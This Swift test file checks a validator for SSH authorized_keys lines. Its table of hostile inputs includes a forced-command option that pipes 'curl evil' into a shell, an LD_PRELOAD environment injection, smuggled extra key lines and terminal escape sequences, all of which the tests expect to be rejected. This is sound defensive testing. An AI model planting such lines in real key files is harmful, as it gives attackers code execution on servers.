import Testing

@testable import EC2SSHCore

@Suite struct AuthorizedKeyLineTests {
    // Public halves of throwaway keys made with ssh-keygen for these tests (the private halves were discarded).
    static let ed25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC9VQ+Guq/xUOUBgGyhIkEl9Wu6cfdhK7GZjn62eP3+k"
    static let rsa2048 =
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCw+9ym7Qidtb9TY+gY7//uKaw6m1vW8Y1YM3F+29qRyHIfCX8VTbNN6/AQHV9ezPfkchWwnrk"
        + "poFf/3TE3VvAFGWdjnE8MrOyVGHPw4jZm/WPZFFeYG9fgrw9nyFmG6Q86Fja6Um6DPNnsjjvyYTnR4JA/RbFFqfe7hhhHGG/bUT/2oIFa8uCq"
        + "M8wQ5ZdjEXdPzVMy9FsSLZygcp4cyl2LKpg2aeoe0hwxJkZonLYzBUNuTJs3ZaqYewLDK3Y2fiqW/23RCcFGs6IQr5VMzqS1Xpcgz4wraTt/K"
        + "SrYuOKL4JMNT/bcTGZVXombD36mtErLM4QDPSD+JerX8JVXxsIV"
    static let rsa1024 =
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC9jFsflEyz6RyF2Cc8TRZaG4XOM/E4UUcfEOLu5/JQAg1jfVGgi/8h2PcYzXPLGsd28kCLZgw"
        + "M8rxcskD1jYKwzljDS80OQCeHuWbH1BZco/sUONCvHByxy9tVnUSxch1Uc/jbnNao9mjPvva9Z2lc5W9DeQH9LmTI2TwwTAz+1Q=="
    static let ecdsa256 =
        "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBLrpBSK0VZJ2oZlzs95VBJf1uAT3sAEZty16Mz6h"
        + "OwT0P3pBDzip6dr4+Yn7qWJFsdw1qhZ4D3O/Ud0FqmFHHKI="
    static let ecdsa384 =
        "ecdsa-sha2-nistp384 AAAAE2VjZHNhLXNoYTItbmlzdHAzODQAAAAIbmlzdHAzODQAAABhBMCStMeLaGQvcohZpU56Gh2JrzarMAyq6U865dk/"
        + "IXMjw4602/GIUycaYf4lbirfQrAmNhSp8AncGVEFylk0tacSelNxG8AbLCGEL5gfKxKWfc7Q8jRlR1zxTdGr/yw04A=="
    static let ecdsa521 =
        "ecdsa-sha2-nistp521 AAAAE2VjZHNhLXNoYTItbmlzdHA1MjEAAAAIbmlzdHA1MjEAAACFBAHZNIEBGNz4IoQYMNh946J+07TYvvWAWatrXb8F"
        + "ssR3SkZ2kRL9RJpzL8PpWeLMCBBOz0acuMQafrxspB/EQN9OaQBbBTDVVnbGu0KRXYM4chBB86nxvefJfokCOKg73H4VNURaWgTh7qQKhbznc5"
        + "rDepkqi4+QMDbC0U0oZnnYLEF+Tw=="

    // Synthetic blobs in SSH wire format, for types ssh-keygen cannot make without hardware and for broken keys.
    static func string(_ bytes: [UInt8]) -> [UInt8] {
        let count = UInt32(bytes.count)
        return [UInt8(count >> 24), UInt8(count >> 16 & 0xFF), UInt8(count >> 8 & 0xFF), UInt8(count & 0xFF)] + bytes
    }

    static func string(_ text: String) -> [UInt8] { string(Array(text.utf8)) }

    static func line(_ type: String, _ blob: [UInt8], comment: String = "") -> String {
        "\(type) \(Base64.encode(blob))" + (comment.isEmpty ? "" : " \(comment)")
    }

    static func decoded(_ line: String) -> [UInt8] {
        Base64.decode(String(line.split(separator: " ")[1])) ?? []
    }

    static let ed25519Point = [UInt8](repeating: 7, count: 32)
    static let p256Point = [0x04] + [UInt8](repeating: 9, count: 64)
    static let skEd25519 = line(
        "sk-ssh-ed25519@openssh.com", string("sk-ssh-ed25519@openssh.com") + string(ed25519Point) + string("ssh:"))
    static let skECDSA = line(
        "sk-ecdsa-sha2-nistp256@openssh.com",
        string("sk-ecdsa-sha2-nistp256@openssh.com") + string("nistp256") + string(p256Point) + string("ssh:"))

    static func rsa(modulus: [UInt8]) -> String {
        line("ssh-rsa", string("ssh-rsa") + string([0x01, 0x00, 0x01]) + string(modulus))
    }

    @Test(arguments: [
        (ed25519, "ssh-ed25519", nil as Int?),
        (rsa2048, "ssh-rsa", 2048),
        (rsa1024, "ssh-rsa", 1024),
        (ecdsa256, "ecdsa-sha2-nistp256", nil),
        (ecdsa384, "ecdsa-sha2-nistp384", nil),
        (ecdsa521, "ecdsa-sha2-nistp521", nil),
        (skEd25519, "sk-ssh-ed25519@openssh.com", nil),
        (skECDSA, "sk-ecdsa-sha2-nistp256@openssh.com", nil),
    ])
    func acceptsEveryAllowedType(body: String, type: String, rsaBits: Int?) throws {
        let key = try AuthorizedKeyLine.validate(body + " user@host\n").get()
        #expect(key.type == type)
        #expect(key.line == body + " user@host")
        #expect(key.comment == "user@host")
        #expect(key.rsaBits == rsaBits)
        #expect(key.isWeak == (rsaBits.map { $0 < 2048 } ?? false))
        #expect(key.blob == Self.decoded(body))
        #expect(Base64.encode(key.blob) == key.base64)
    }

    static let normalizations: [(String, String)] = [
        (ed25519, ed25519),
        ("\t  " + ed25519 + "  \t", ed25519),
        (ed25519 + "\n", ed25519),
        (ed25519 + "   two  words ", ed25519 + " two  words"),
        (ed25519 + " j\u{FC}rgen@host", ed25519),
        (ed25519 + " evil\u{1B}[2Jcomment", ed25519),
        (ed25519 + " tab\tinside", ed25519),
        (ed25519.replacing(" ", with: "\t") + "\tc@d", ed25519 + " c@d"),
    ]

    @Test(arguments: normalizations)
    func normalizesTheLine(body: String, expected: String) throws {
        #expect(try AuthorizedKeyLine.validate(body).get().line == expected)
    }

    static var hostile: [(String, KeyRejection)] {
        let ed25519Blob = decoded(ed25519)
        let withoutPadding = String(ecdsa256.dropLast())
        let nonCanonical = String(ecdsa256.dropLast(2)) + "J="
        return [
            ("", .empty),
            ("   \t ", .empty),
            ("\n", .empty),
            ("command=\"/bin/sh -c 'curl evil|sh'\" \(ed25519)", .optionsPrefix),
            ("from=\"10.0.0.1\" \(rsa2048)", .optionsPrefix),
            ("no-pty \(ed25519)", .optionsPrefix),
            ("restrict,command=\"x\" \(ed25519)", .optionsPrefix),
            ("environment=\"LD_PRELOAD=/tmp/x.so\" \(ed25519)", .optionsPrefix),
            ("cert-authority \(ed25519)", .optionsPrefix),
            ("\(ed25519) a\n\(rsa2048)", .multipleLines),
            ("\(ed25519)\ncommand=\"sh\" \(rsa2048)", .multipleLines),
            ("\n\(ed25519)", .multipleLines),
            ("\(ed25519)\r\n", .multipleLines),
            ("\(ed25519)\rfrom=\"*\" \(rsa2048)", .multipleLines),
            ("\(ed25519)\n\n", .multipleLines),
            ("\(ed25519)\u{0}", .nulCharacter),
            ("ssh-dss AAAAB3NzaC1kc3MAAACBAP1/U4Ed", .unsupportedType("ssh-dss")),
            ("ssh-ed25519-cert-v01@openssh.com AAAA", .unsupportedType("ssh-ed25519-cert-v01@openssh.com")),
            ("SSH-ED25519 AAAA", .unsupportedType("SSH-ED25519")),
            ("ssh-ed25519", .missingKeyData),
            ("ssh-ed25519   ", .missingKeyData),
            ("ssh-ed25519 !!!!", .invalidBase64),
            ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE", .invalidBase64),
            ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5", .malformedBlob("truncated length field")),
            (withoutPadding, .invalidBase64),
            (nonCanonical, .invalidBase64),
            ("ssh-rsa " + ed25519.split(separator: " ")[1], .typeMismatch(declared: "ssh-rsa", inBlob: "ssh-ed25519")),
            (
                "ecdsa-sha2-nistp384 " + ecdsa256.split(separator: " ")[1],
                .typeMismatch(declared: "ecdsa-sha2-nistp384", inBlob: "ecdsa-sha2-nistp256")
            ),
            (
                line("ssh-ed25519", Array(ed25519Blob.dropLast(3))),
                .malformedBlob("a field claims 32 bytes but only 29 remain")
            ),
            (line("ssh-ed25519", Array(ed25519Blob.prefix(2))), .malformedBlob("truncated length field")),
            (line("ssh-ed25519", ed25519Blob + [0]), .malformedBlob("unexpected bytes after the key")),
            (line("ssh-ed25519", []), .missingKeyData),
            (
                line("ssh-ed25519", [0xFF, 0xFF, 0xFF, 0xFF]),
                .malformedBlob("a field claims 4294967295 bytes but only 0 remain")
            ),
            (
                line("ssh-ed25519", string("ssh-ed25519") + string([UInt8](repeating: 1, count: 31))),
                .malformedBlob("an Ed25519 public key must be 32 bytes")
            ),
            (
                line("ecdsa-sha2-nistp256", string("ecdsa-sha2-nistp256") + string("nistp384") + string(p256Point)),
                .malformedBlob("the curve name does not match ecdsa-sha2-nistp256")
            ),
            (
                line(
                    "ecdsa-sha2-nistp256",
                    string("ecdsa-sha2-nistp256") + string("nistp256") + string([0x02] + p256Point.dropFirst())),
                .malformedBlob("the public point is not an uncompressed nistp256 point")
            ),
            (
                line("sk-ssh-ed25519@openssh.com", string("sk-ssh-ed25519@openssh.com") + string(ed25519Point)),
                .malformedBlob("truncated length field")
            ),
            (rsa(modulus: [0x00, 0xC0] + [UInt8](repeating: 0xAB, count: 63)), .rsaKeyTooSmall(bits: 512)),
            (rsa(modulus: [0x7F] + [UInt8](repeating: 0xAB, count: 127)), .rsaKeyTooSmall(bits: 1023)),
            (
                rsa(modulus: [0x80] + [UInt8](repeating: 0xAB, count: 255)),
                .malformedBlob("an integer field is negative")
            ),
            (
                rsa(modulus: [0x00, 0x01] + [UInt8](repeating: 0xAB, count: 255)),
                .malformedBlob("an integer field has superfluous leading zero bytes")
            ),
            (rsa(modulus: []), .malformedBlob("an integer field is empty (zero)")),
            (
                rsa(modulus: [0x00, 0x80] + [UInt8](repeating: 0, count: 2048)),
                .malformedBlob("the RSA modulus has 16392 bits, more than 16384")
            ),
            ("ssh-ed25519 " + String(repeating: "A", count: 20_000), .tooLong(bytes: 20_012)),
        ]
    }

    @Test(arguments: hostile)
    func rejectsHostileInput(body: String, rejection: KeyRejection) {
        #expect(throws: rejection) { try AuthorizedKeyLine.validate(body).get() }
    }

    @Test func acceptsTheSmallestStrongRSAKeyAndFlagsNothingElse() throws {
        let key = try AuthorizedKeyLine.validate(Self.rsa(modulus: [0x00, 0x80] + [UInt8](repeating: 1, count: 255)))
            .get()
        #expect(key.rsaBits == 2048)
        #expect(!key.isWeak)
        let weak = try AuthorizedKeyLine.validate(Self.rsa(modulus: [0x00, 0x80] + [UInt8](repeating: 1, count: 127)))
            .get()
        #expect(weak.rsaBits == 1024)
        #expect(weak.isWeak)
    }

    @Test func fingerprintMatchesSSHKeygen() throws {
        let key = try AuthorizedKeyLine.validate(Self.ed25519).get()
        // sha256 of the blob, as computed by ssh-keygen -lf: SHA256:06j8ae6L6EU55yUNNKgqzN0HzjR/x9Ob0fcLTXoUPqo
        let digest: [UInt8] = [
            211, 168, 252, 105, 238, 139, 232, 69, 57, 231, 37, 13, 52, 168, 42, 204, 221, 7, 206, 52, 127, 199, 211,
            155, 209, 247, 11, 77, 122, 20, 62, 170,
        ]
        let expectedBlob = Self.decoded(Self.ed25519)
        let fingerprint = key.fingerprint { blob in
            #expect(blob == expectedBlob)
            return digest
        }
        #expect(fingerprint == "SHA256:06j8ae6L6EU55yUNNKgqzN0HzjR/x9Ob0fcLTXoUPqo")
    }

    @Test(arguments: hostile.map(\.1))
    func everyRejectionExplainsItself(rejection: KeyRejection) {
        #expect(!rejection.description.isEmpty)
        #expect(!rejection.description.contains("\n"))
    }

    @Test func rejectionDescriptionsDoNotEchoControlCharacters() {
        let rejection = KeyRejection.unsupportedType("x\u{1B}[31m")
        #expect(rejection.description == "the key type 'x?[31m' is not allowed")
    }
}
